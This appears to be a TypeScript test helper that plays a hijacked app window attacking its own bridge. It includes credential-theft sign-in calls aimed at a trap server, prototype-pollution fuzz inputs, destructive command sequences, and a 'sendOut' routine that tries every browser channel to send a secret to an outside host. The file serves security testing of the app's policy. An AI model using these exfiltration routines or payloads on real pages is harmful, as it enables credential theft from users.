/**
 * What whoever runs in the page would do with it: calls with garbage and with what is valid, and every
 * way in which a page can send something out. The functions travel to the page as text.
 */
import type { CommandName, Input } from '../../src-shared/contract.ts';
import { commandNames, validMessages, type Fields } from '../messages/samples.ts';

/** One call, as the page makes it. */
export type Order = readonly [name: unknown, input: unknown];

interface Taken {
  bridge: { call(...args: unknown[]): Promise<unknown> };
}
declare const globalThis: Taken & typeof global;

/** Where a page that was taken over would like secrets to go. */
export interface Targets {
  readonly profile: string;
  readonly userName: string;
  /** Takes requests and answers nothing useful: nothing may ever come here. */
  readonly trap: string;
  /** A server of the page's own, with an account of its own. */
  readonly own: { readonly url: string; readonly userName: string; readonly orgId: string };
  /** The user's own server. */
  readonly users: string;
}

const local = (url: string) => ({ kind: 'local', url }) as const;
type Orders = readonly { [N in CommandName]: readonly [N, Input<N>] }[CommandName][];

/** Commands that change or end something for good, which `destructive` gives. All others are harmless. */
const lasting: ReadonlySet<CommandName> = new Set<CommandName>([
  ...(['cancelSignIn', 'createProfile', 'duplicateProfile', 'resume', 'forgetDevice'] as const),
  ...(['signOut', 'forgetProfile', 'renewVault', 'wipeEverything'] as const),
  ...(['answerGrant', 'revokeGrant', 'revokeAllGrants', 'restoreGrants'] as const),
]);

/** Ending the app is the user's to do as well; with it nothing could be looked at afterwards. */
export const endings: ReadonlySet<CommandName> = new Set<CommandName>(['quit', 'restart']);

/** Every other command: a new one is called without being named here. */
const sampled = commandNames.filter((name) => !lasting.has(name) && !endings.has(name));

/** The sample with the targets in it, at any depth: with empty secrets, kept ones are asked for. */
function aim(sample: unknown, targets: Targets): unknown {
  const aims: Fields = {
    ...{ profile: targets.profile, userName: targets.userName, server: local(targets.trap) },
    ...{ password: '', devKey: '', orgId: '00801', sessionId: 'of-the-page' },
    // A session that ended is to stay ended, and what is kept is to stay kept.
    ...{ staySignedIn: false, what: 'everything' },
  };
  if (typeof sample !== 'object' || sample === null) return sample;
  const fields = Object.entries(sample).map(([key, value]) => [
    key,
    key in aims ? aims[key] : aim(value, targets),
  ]);
  return Object.fromEntries(fields);
}

/** Valid calls that leave the session as it is: each choice of each field of each command. */
export function harmless(targets: Targets): Orders {
  const { profile, userName, trap, users } = targets;
  const samples = sampled.flatMap((name) => {
    const texts = validMessages(name).map((sample) => JSON.stringify(aim(sample, targets)));
    return [...new Set(texts)].map((text) => [name, JSON.parse(text) as object] as const);
  });
  const form = { profile, userName, orgId: '00801', password: '', devKey: '' };
  return [
    ...(samples as unknown as Orders),
    // One that is there: the call that opened a session, where there is one.
    ['getExchange', { id: 1 }],
    ['tryOperation', { profile, operation: 'SendVendorInvite', body: '{"planted":1}' }],
    // Kept secrets to a server of the page's choice, in each way that there is.
    ['signIn', { ...form, devKey: 'OF-THE-PAGE', server: local(trap) }],
    // The page's own key for its own password would be enough to sign in with.
    ['dropTyped', { profile }],
    ['signIn', { ...form, password: 'of-the-page', server: local(trap) }],
    ['signIn', { ...form, server: local(users.replace('127.0.0.1', 'localhost')) }],
    ['signIn', { ...form, server: local(`${users}/../..`) }],
    ['signIn', { ...form, userName: 'somebody@else.example', server: local(users) }],
  ];
}

/** What changes or ends something, in an order in which each still has something to act on. */
export function destructive({ profile, userName, trap, own }: Targets): Orders {
  const empty = { password: '', devKey: '' };
  const typed = { userName: own.userName, password: 'of-the-page', devKey: 'OF-THE-PAGE' };
  const server = local(own.url);
  return [
    // First, so that a sign-in that hangs does not hold up the rest.
    ['cancelSignIn', { profile }],
    ['createProfile', {}],
    // Who has access is the person's to say, and so within the reach of whoever has their window.
    ['answerGrant', { question: 1, allow: true }],
    ['revokeGrant', { grant: 'of-nobody' }],
    ['revokeAllGrants', {}],
    ['restoreGrants', {}],
    ['duplicateProfile', { profile }],
    ['resume', { profile }],
    ['forgetDevice', { profile }],
    ['signOut', { profile }],
    // A session of a server of the page's own makes that server the profile's …
    ['useSession', { profile, server, sessionId: 'of-the-page', devKey: 'OF-THE-PAGE' }],
    ['signOut', { profile }],
    // … but what was kept is not for it.
    ['signIn', { profile, userName, orgId: own.orgId, ...empty, server }],
    ['findOrganizations', { profile, server, userName, ...empty }],
    ['useSession', { profile, server, sessionId: 'of-the-page', devKey: '' }],
    ['signIn', { profile, orgId: own.orgId, ...typed, server }],
    ['signOut', { profile }],
    ['signIn', { profile, userName, orgId: own.orgId, ...empty, server: local(trap) }],
    ['keepSignIn', { profile, what: 'nothing' }],
    ['forgetProfile', { profile }],
    ['renewVault', {}],
    ['wipeEverything', {}],
  ];
}

/** The commands that the two lists call: the whole contract, or a test fails. */
export const commandsOf = (orders: readonly Order[]): ReadonlySet<unknown> =>
  new Set(orders.map(([name]) => name));

/** Makes calls one after the other. Runs in the page. */
export async function callAll(orders: readonly Order[]): Promise<unknown[]> {
  const answers: unknown[] = [];
  for (const [name, input] of orders) {
    try {
      answers.push(await globalThis.bridge.call(name, input));
    } catch (error) {
      answers.push({ thrown: String(error) });
    }
  }
  return answers;
}

/** Garbage to each command, and to names that are none. Runs in the page. */
export function callWithGarbage([names, profile]: readonly [string[], string]): Promise<unknown[]> {
  const circle: Record<string, unknown> = {};
  circle['self'] = circle;
  const garbage: unknown[] = [
    ...[
      undefined,
      null,
      '',
      0,
      [],
      circle,
      JSON.parse('{"a":'.repeat(500) + '1' + '}'.repeat(500)) as unknown,
    ],
    JSON.parse('{"__proto__":{"polluted":1},"profile":"first"}') as unknown,
    { profile: '__proto__' },
    ...[{ profile, constructor: { prototype: { polluted: 1 } } }],
    ...[{ profile, more: 'x'.repeat(100_000) }, new Map([['profile', profile]])],
    ...[
      new Uint8Array(1000),
      { link: 'https://evil.example/', id: -1, code: '00000x', body: '[]' },
    ],
  ];
  const strange = ['constructor', '__proto__', 'toString', 'sessionId', 'getSecrets', '', '*'];
  const orders = [
    ...names.map((name, at) => [name, garbage[at % garbage.length]]),
    ...garbage.map((input, at) => [names[(at * 5) % names.length], input]),
    ...garbage.map((name) => [name, {}]),
    ...strange.map((name) => [name, { profile }]),
  ];
  return Promise.all(
    orders.map(([name, input]) =>
      globalThis.bridge.call(name, input).catch((error: unknown) => ({ thrown: String(error) })),
    ),
  );
}

/** What the policy has to say of each way that `sendOut` tries: one breach for each. */
export const breaches: readonly string[] = [
  ...['base-uri', 'connect-src', 'connect-src', 'connect-src', 'connect-src', 'connect-src'],
  ...['default-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'img-src', 'media-src'],
  ...['require-trusted-types-for', 'require-trusted-types-for', 'require-trusted-types-for'],
  'style-src-elem',
];

/**
 * Tries every way of sending `secret` to `target` (http://host:port) from the page as it is. Resolves
 * to the directives of the policy that were breached, once there are `count` of them; to fewer after a
 * minute, which only ends what hangs. Runs in the page.
 */
export async function sendOut([target, secret, count]: readonly [string, string, number]): Promise<
  string[]
> {
  const told: string[] = [];
  const allTold = new Promise<void>((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      told.push(event.effectiveDirective);
      if (told.length >= count) resolve();
    });
    setTimeout(resolve, 60_000);
  });
  const to = (way: string) => `${target}/${way}?${encodeURIComponent(secret)}`;
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors', method: 'POST', body: secret }),
    () => navigator.sendBeacon(to('beacon'), secret),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new EventSource(to('events')),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    () => add('img', { src: to('image') }),
    () => add('video', { src: to('video') }),
    () => add('object', { data: to('object') }),
    () => add('iframe', { src: to('frame') }),
    () => add('link', { rel: 'stylesheet', href: to('style') }),
    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    () => add('base', { href: to('base') }),
    () => add('script', { src: to('script') }),
    () => new Worker(to('worker')),
    () => new FontFace('taken', `url(${to('font')})`).load(),
    () => void (document.body.style.backgroundImage = `url(${to('css')})`),
    () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
    // The policy says nothing of these two: the window has no network, and opens no other.
    () => add('link', { rel: 'preconnect', href: target }),
    () => window.open(to('open')),
  ];
  for (const way of ways) {
    try {
      await Promise.resolve(way()).catch(() => undefined);
    } catch {
      // Refused at once: what was asked for.
    }
  }
  await allTold;
  return told.sort();
}

/** The ways of leaving for another page, which main refuses. */
export const departures = ['refresh', 'ping', 'location'] as const;

/** Tries to leave for `url` in one of the ways. Runs in the page. */
export function leave([way, url]: readonly [(typeof departures)[number], string]): void {
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  if (way === 'refresh') add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` });
  if (way === 'ping') (add('a', { href: url, ping: url }) as HTMLAnchorElement).click();
  if (way === 'location') location.href = url;
}
